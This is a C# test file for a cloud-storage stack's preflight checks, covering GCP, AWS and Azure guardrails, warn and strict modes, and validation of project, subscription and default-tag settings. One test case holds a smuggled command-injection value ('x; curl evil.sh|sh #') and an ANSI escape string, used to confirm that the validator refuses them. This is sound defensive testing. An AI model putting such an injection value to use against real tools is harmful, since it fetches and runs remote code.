using System.Net;
using StorageRegistrar.Preflight;
using StorageRegistrar.Preflight.Aws;
using StorageRegistrar.Preflight.Azure;
using StorageRegistrar.Preflight.Gcp;
using LocalWorld;
using TestSupport;

namespace StackPlanning.Tests;

/// <summary>
/// Preflight as <c>pulumi preview</c> and <c>up</c> run it: what stops the stack in each mode, the one error with every
/// blocker, its fix and who grants it, the warnings, and no read at all when preflight is off.
/// </summary>
public sealed class StackPreflightTests
{
    private const string Project = "acme-video";

    private static readonly GuardrailCheck KeyBlocked = GuardrailCheck.Blocks(
        GcpGuardrails.DisableServiceAccountKeyCreation,
        "iam.disableServiceAccountKeyCreation is enforced on project acme-video.",
        "Exempt project acme-video:\n  gcloud resource-manager org-policies disable-enforce iam.disableServiceAccountKeyCreation --project=acme-video");

    private static readonly GuardrailCheck ScpBlocked = new("aws-scp", PreflightOutcome.Blocks, "An SCP denies iam:CreateUser in eu-west-1.")
    {
        Fix = "Have the SCP spare the deployer, or use authMode: policy.",
        GrantedBy = "The organization's administrators",
    };

    private static readonly GuardrailCheck LocationsUnread = GuardrailCheck.NotExamined(
        GcpGuardrails.ResourceLocations,
        "gcp.resourceLocations could not be read: HTTP 403 \u001b[31mPermission denied.",
        GcpGuardrails.ReaderFix(Project),
        GcpGuardrails.ReaderGrantedBy);

    private static readonly GuardrailCheck PermissionsMet = GuardrailCheck.Met(GcpGuardrails.DeployerPermissions, "The deployer holds all 9 permissions.");

    private static PreflightReport Report(params StoragePreflight[] storages) => new("prod", storages);

    [Fact]
    public void Warn_stops_on_every_blocker_of_every_storage_in_one_error_and_warns_on_what_it_could_not_read()
    {
        var report = Report(
            new StoragePreflight("rec-gcs", "gcs", [LocationsUnread, KeyBlocked, PermissionsMet]),
            new StoragePreflight("rec-s3", "s3", [ScpBlocked]));

        var verdict = StackPreflight.Judge(PreflightMode.Warn, report);

        Assert.True(verdict.Stops);
        var error = verdict.Error!;
        Assert.StartsWith("Preflight of stack 'prod': 2 guardrail(s) would stop pulumi up; nothing was created.", error, StringComparison.Ordinal);
        Assert.Contains("rec-gcs (gcs): iam.disableServiceAccountKeyCreation blocks: iam.disableServiceAccountKeyCreation is enforced on project acme-video.", error, StringComparison.Ordinal);
        Assert.Contains("\n    Exempt project acme-video:\n      gcloud resource-manager org-policies disable-enforce iam.disableServiceAccountKeyCreation --project=acme-video\n", error, StringComparison.Ordinal);
        Assert.Contains($"  Granted by: {GcpGuardrails.DisableServiceAccountKeyCreation.GrantedBy}", error, StringComparison.Ordinal);
        Assert.Contains("rec-s3 (s3): aws-scp blocks: An SCP denies iam:CreateUser in eu-west-1.\n  Fix:\n    Have the SCP spare the deployer, or use authMode: policy.\n  Granted by: The organization's administrators", error, StringComparison.Ordinal);
        Assert.DoesNotContain("gcp.resourceLocations", error, StringComparison.Ordinal);
        Assert.DoesNotContain("gcp-deployer-permissions", error, StringComparison.Ordinal);
        Assert.EndsWith("`pulumi config set preflight off` skips these reads.", error, StringComparison.Ordinal);

        var warning = Assert.Single(verdict.Warnings);
        Assert.StartsWith("preflight: gcp.resourceLocations of storage rec-gcs (gcs) was not examined: gcp.resourceLocations could not be read: HTTP 403 \\u001B[31mPermission denied.", warning, StringComparison.Ordinal);
        Assert.Contains("roles/orgpolicy.policyViewer", warning, StringComparison.Ordinal);
        Assert.Contains($"Granted by: {GcpGuardrails.ReaderGrantedBy}", warning, StringComparison.Ordinal);
    }

    [Fact]
    public void Warn_lets_a_stack_with_only_unread_guardrails_go_on_with_a_warning_each()
    {
        var verdict = StackPreflight.Judge(PreflightMode.Warn, Report(new StoragePreflight("rec-gcs", "gcs", [LocationsUnread, PermissionsMet])));

        Assert.False(verdict.Stops);
        Assert.Single(verdict.Warnings);
    }

    [Fact]
    public void Strict_stops_on_a_guardrail_it_could_not_read_as_on_one_that_blocks()
    {
        var verdict = StackPreflight.Judge(PreflightMode.Strict, Report(new StoragePreflight("rec-gcs", "gcs", [LocationsUnread, KeyBlocked, PermissionsMet])));

        Assert.Empty(verdict.Warnings);
        var error = verdict.Error!;
        Assert.StartsWith("Preflight of stack 'prod': 1 guardrail(s) would stop pulumi up and 1 could not be read (preflight: strict); nothing was created.", error, StringComparison.Ordinal);
        Assert.Contains("rec-gcs (gcs): gcp.resourceLocations not examined: ", error, StringComparison.Ordinal);
        Assert.Contains("rec-gcs (gcs): iam.disableServiceAccountKeyCreation blocks: ", error, StringComparison.Ordinal);
        Assert.EndsWith("`pulumi config set preflight warn` lets a guardrail that could not be read pass with a warning.", error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(PreflightMode.Warn)]
    [InlineData(PreflightMode.Strict)]
    public void A_stack_whose_guardrails_are_all_met_goes_on_without_a_word(PreflightMode mode)
    {
        var verdict = StackPreflight.Judge(mode, Report(new StoragePreflight("rec-gcs", "gcs", [PermissionsMet]), new StoragePreflight("rec-minio", "s3compatible", [])));

        Assert.Equal((false, 0), (verdict.Stops, verdict.Warnings.Count));
    }

    [Fact]
    public async Task Off_reads_nothing_not_even_a_project_it_could_not_name()
    {
        var plan = StackPlanner.Plan(StackInputs.FromJson("""
            { "storages": [ { "name": "rec-gcs", "cloud": "gcs", "location": "EU" } ], "preflight": "off" }
            """));
        var made = 0;

        var verdict = await StackPreflight.RunAsync(plan, _ => null, _ => null, () => { made++; return []; }, TestContext.Current.CancellationToken);

        Assert.Equal((0, false, null), (made, verdict.Stops, verdict.Report));
    }

    [Fact]
    public async Task Warn_reads_the_projects_guardrails_and_stops_at_a_forbidden_key_with_the_exemption_and_warns_on_a_refused_read()
    {
        await using var google = await GoogleGuardrailServer.StartAsync(TestContext.Current.CancellationToken);
        google.SetPolicy(Project, "iam.disableServiceAccountKeyCreation", """{"rules":[{"enforce":true}]}""")
            .FailPolicy(Project, "gcp.restrictNonCmekServices", HttpStatusCode.Forbidden, GoogleGuardrailServer.Error(HttpStatusCode.Forbidden, "Permission denied.", "PERMISSION_DENIED"))
            .Grant(Project, "storage.buckets.create", "storage.buckets.get", "storage.buckets.update", "storage.buckets.getIamPolicy", "storage.buckets.setIamPolicy",
                "iam.serviceAccounts.create", "iam.serviceAccounts.get", "iam.serviceAccountKeys.create", "iam.serviceAccountKeys.get");
        using var http = PreflightHttp.Create(new PreflightReadOptions { MaxRetries = 0 });
        var plan = StackPlanner.Plan(StackInputs.WithStorages("""{ "name": "rec-gcs", "cloud": "gcs", "location": "EU" }""", stackName: "prod"));
        var config = new Dictionary<string, string> { [ConfigKeys.GcpDefaultProject] = Project };

        var verdict = await StackPreflight.RunAsync(
            plan,
            config.GetValueOrDefault,
            _ => null,
            () => PreflightCheckers.Create(http, new PreflightCheckerOptions { OwnerToken = (_, _) => Task.FromResult(GoogleGuardrailServer.Token), GoogleEndpoint = google.Endpoint }),
            TestContext.Current.CancellationToken);

        Assert.Contains($"rec-gcs (gcs): iam.disableServiceAccountKeyCreation blocks: iam.disableServiceAccountKeyCreation is enforced on project {Project}", verdict.Error, StringComparison.Ordinal);
        Assert.Contains($"gcloud resource-manager org-policies disable-enforce iam.disableServiceAccountKeyCreation --project={Project}", verdict.Error, StringComparison.Ordinal);
        Assert.Contains("resource.matchTag(", verdict.Error, StringComparison.Ordinal);
        Assert.StartsWith("preflight: gcp.restrictNonCmekServices of storage rec-gcs (gcs) was not examined:", Assert.Single(verdict.Warnings), StringComparison.Ordinal);
        Assert.Equal(PreflightOutcome.Blocks, verdict.Report!.Outcome);
    }

    [Fact]
    public void The_subscription_is_the_stacks_else_the_providers_environment_variable()
    {
        var plan = StackPlanner.Plan(StackInputs.WithStorages("""{ "name": "rec-abs", "cloud": "abs", "location": "westeurope", "resourceGroup": "rg-rec" }"""));
        const string FromStack = "00000000-0000-4000-8000-00000000000a", FromEnvironment = "00000000-0000-4000-8000-00000000000b";
        var environment = new Dictionary<string, string> { [StackPreflight.AzureSubscriptionVariable] = FromEnvironment };
        var config = new Dictionary<string, string> { [ConfigKeys.AzureSubscriptionId] = FromStack };

        var fromStack = Assert.IsType<AzurePreflightTarget>(Assert.Single(StackPreflight.Targets(plan, config.GetValueOrDefault, environment.GetValueOrDefault)));
        var fromEnvironment = Assert.IsType<AzurePreflightTarget>(Assert.Single(StackPreflight.Targets(plan, _ => null, environment.GetValueOrDefault)));

        Assert.Equal((FromStack, FromEnvironment), (fromStack.SubscriptionId, fromEnvironment.SubscriptionId));
        // An empty variable names no subscription, as the provider reads it.
        Assert.Null(StackPreflight.AzureSubscription(plan, _ => null, _ => ""));
    }

    [Fact]
    public void The_project_is_the_stacks_else_the_first_of_the_gcp_providers_environment_variables()
    {
        var plan = StackPlanner.Plan(StackInputs.WithStorages("""{ "name": "rec-gcs", "cloud": "gcs", "location": "europe-west1" }"""));
        var environment = new Dictionary<string, string> { ["GCLOUD_PROJECT"] = "third", ["GOOGLE_CLOUD_PROJECT"] = "second", ["CLOUDSDK_CORE_PROJECT"] = "fourth" };
        var config = new Dictionary<string, string> { [ConfigKeys.GcpDefaultProject] = "from-stack" };

        var fromStack = Assert.IsType<GcpPreflightTarget>(Assert.Single(StackPreflight.Targets(plan, config.GetValueOrDefault, environment.GetValueOrDefault)));
        var fromEnvironment = Assert.IsType<GcpPreflightTarget>(Assert.Single(StackPreflight.Targets(plan, _ => null, environment.GetValueOrDefault)));
        var error = Assert.Throws<StackConfigException>(() => StackPreflight.Targets(plan, _ => null, _ => null));

        Assert.Equal(("from-stack", "second"), (fromStack.Project, fromEnvironment.Project));
        Assert.Equal("storages[0].project", Assert.Single(error.Problems).Field);
    }

    /// <summary>The provider's fallback reaches requests and the fixes' commands as the stack's setting does, and is held to the same rule.</summary>
    [Theory]
    [InlineData("GOOGLE_PROJECT", "Bad Project!", "The environment variable GOOGLE_PROJECT, which the provider reads where the stack sets no gcp:project, is \"Bad Project!\", not a project id (6 to 30 lowercase letters, digits and hyphens, starting with a letter): set it to the project's id, as `gcloud projects list` shows it, or set gcp:project in the stack.")]
    [InlineData(StackPreflight.AzureSubscriptionVariable, "x; curl evil.sh|sh #", "The environment variable ARM_SUBSCRIPTION_ID, which the provider reads where the stack sets no azure-native:subscriptionId, is \"x; curl evil.sh|sh #\", not a subscription id")]
    [InlineData(StackPreflight.AzureSubscriptionVariable, "00000000-0000-4000-8000-00000000000a\u001b[2J", "The environment variable ARM_SUBSCRIPTION_ID, which the provider reads where the stack sets no azure-native:subscriptionId, contains U+001B at position 37")]
    public void A_project_or_subscription_from_the_environment_not_of_its_clouds_form_is_refused_naming_the_variable(string variable, string value, string message)
    {
        var plan = StackPlanner.Plan(StackInputs.WithStorages("""{ "name": "rec-gcs", "cloud": "gcs", "location": "EU" }, { "name": "rec-abs", "cloud": "abs", "location": "westeurope", "resourceGroup": "rg-rec" }"""));
        var environment = new Dictionary<string, string> { ["GOOGLE_PROJECT"] = "acme-video", [StackPreflight.AzureSubscriptionVariable] = "00000000-0000-4000-8000-00000000000a", [variable] = value };

        var refused = Assert.Throws<StackConfigException>(() => StackPreflight.Targets(plan, _ => null, environment.GetValueOrDefault));

        Assert.StartsWith(message, refused.Message, StringComparison.Ordinal);
        Assert.DoesNotContain('\u001b', refused.Message);
    }

    /// <summary>A variable left for another tool is not judged where the stack never reads it.</summary>
    [Fact]
    public void A_project_or_subscription_no_storage_reads_is_not_judged()
    {
        var plan = StackPlanner.Plan(StackInputs.WithStorages("""{ "name": "rec-s3", "cloud": "s3", "region": "eu-west-1", "authMode": "keys" }, { "name": "rec-gcs", "cloud": "gcs", "project": "acme-video", "location": "EU" }"""));
        var environment = new Dictionary<string, string> { ["GOOGLE_CLOUD_PROJECT"] = "example.com:video", [StackPreflight.AzureSubscriptionVariable] = "my-sub" };

        var targets = StackPreflight.Targets(plan, _ => null, environment.GetValueOrDefault);

        Assert.Equal("acme-video", Assert.Single(targets.OfType<GcpPreflightTarget>()).Project);
        Assert.Null(StackPreflight.GcpDefaultProject(plan, _ => null, environment.GetValueOrDefault));
        Assert.Null(StackPreflight.AzureSubscription(plan, _ => null, environment.GetValueOrDefault));
    }

    [Fact]
    public void A_subscription_the_programs_configuration_gives_not_as_a_guid_is_refused_on_its_key()
    {
        var plan = StackPlanner.Plan(StackInputs.WithStorages("""{ "name": "rec-abs", "cloud": "abs", "location": "westeurope", "resourceGroup": "rg-rec" }"""));
        var config = new Dictionary<string, string> { [ConfigKeys.AzureSubscriptionId] = "/subscriptions/00000000-0000-4000-8000-00000000000a" };

        var refused = Assert.Throws<StackConfigException>(() => StackPreflight.Targets(plan, config.GetValueOrDefault, _ => null));

        var problem = Assert.Single(refused.Problems);
        Assert.Equal(ConfigKeys.AzureSubscriptionId, problem.Field);
        Assert.Contains("not a subscription id", problem.Message, StringComparison.Ordinal);
    }
    [Fact]
    public void The_creates_that_send_tags_send_the_stacks_over_the_aws_providers_default_tags()
    {
        var plan = StackPlanner.Plan(StackInputs.FromJson("""
            { "storages": [ { "name": "rec-s3", "cloud": "s3", "region": "eu-west-1", "authMode": "keys", "encryptionKey": "create" } ], "tags": { "team": "video" } }
            """));
        var config = new Dictionary<string, string> { [ConfigKeys.AwsDefaultTags] = """{"tags":{"CostCenter":"4711","team":"platform"}}""" };

        var target = Assert.IsType<AwsPreflightTarget>(Assert.Single(StackPreflight.Targets(plan, config.GetValueOrDefault, _ => null)));

        Assert.Equal(
            new Dictionary<string, string> { ["CostCenter"] = "4711", ["team"] = "video", [StackPlanner.StorageTag] = "rec-s3" },
            target.RequestTags);
        Assert.Equal(
            ["iam:CreateUser", "iam:TagUser", "kms:CreateKey", "kms:TagResource"],
            target.Actions.Where(a => a.CarriesRequestTags).Select(a => a.Action).Order(StringComparer.Ordinal));
        // Without default tags, the stack's own.
        var plain = Assert.IsType<AwsPreflightTarget>(Assert.Single(StackPreflight.Targets(plan, _ => null, _ => null)));
        Assert.Equal(new Dictionary<string, string> { ["team"] = "video", [StackPlanner.StorageTag] = "rec-s3" }, plain.RequestTags);
    }

    [Theory]
    [InlineData("[\"CostCenter\"]", "aws:defaultTags", "is not a map: write it as the AWS provider reads it, a map under `tags:`")]
    [InlineData("""{"tag":{"CostCenter":"4711"}}""", "aws:defaultTags.tag", "is not a key of the AWS provider's default tags")]
    [InlineData("""{"tags":["CostCenter"]}""", "aws:defaultTags.tags", "is not a map of tag names to values")]
    [InlineData("""{"tags":{"CostCenter":4711}}""", "aws:defaultTags.tags.CostCenter", "must be a text value")]
    [InlineData("""{"tags":{"aws:cost":"4711"}}""", "aws:defaultTags.tags.aws:cost", "uses the prefix \"aws:\", which AWS reserves")]
    [InlineData("""{"tags":{"Cost|Center":"4711"}}""", "aws:defaultTags.tags.Cost|Center", "holds a character AWS does not take in tags")]
    public void Default_tags_the_aws_provider_or_aws_would_refuse_are_refused_naming_the_key_path(string value, string field, string problem)
    {
        var plan = StackPlanner.Plan(StackInputs.WithStorages("""{ "name": "rec-s3", "cloud": "s3", "region": "eu-west-1" }"""));
        var config = new Dictionary<string, string> { [ConfigKeys.AwsDefaultTags] = value };

        var error = Assert.Throws<StackConfigException>(() => StackPreflight.Targets(plan, config.GetValueOrDefault, _ => null));

        var refused = Assert.Single(error.Problems);
        Assert.Equal(field, refused.Field);
        Assert.StartsWith(problem, refused.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Default_tags_that_would_put_more_tags_on_a_resource_than_aws_takes_are_refused()
    {
        var plan = StackPlanner.Plan(StackInputs.FromJson("""
            { "storages": [ { "name": "rec-s3", "cloud": "s3", "region": "eu-west-1" } ], "tags": { "team": "video" } }
            """));
        var defaults = string.Join(",", Enumerable.Range(0, 49).Select(n => $"\"t{n}\":\"v\""));
        var config = new Dictionary<string, string> { [ConfigKeys.AwsDefaultTags] = $$$"""{"tags":{{{{defaults}}}}}""" };

        var error = Assert.Throws<StackConfigException>(() => StackPreflight.Targets(plan, config.GetValueOrDefault, _ => null));

        Assert.Equal(
            ("aws:defaultTags", "with the stack's tags and its own (stream-storage), puts 51 tags on the resources of storage rec-s3: AWS takes 50 a resource, so keep fewer."),
            (Assert.Single(error.Problems).Field, error.Problems[0].Message));
    }

    [Fact]
    public void Default_tags_are_not_read_where_no_storage_uses_the_aws_provider()
    {
        var plan = StackPlanner.Plan(StackInputs.WithStorages("""{ "name": "rec-abs", "cloud": "abs", "location": "westeurope", "resourceGroup": "rg-rec" }"""));
        var config = new Dictionary<string, string> { [ConfigKeys.AwsDefaultTags] = "[\"not tags\"]" };

        Assert.Empty(StackPreflight.AwsDefaultTags(plan, config.GetValueOrDefault));
    }
}
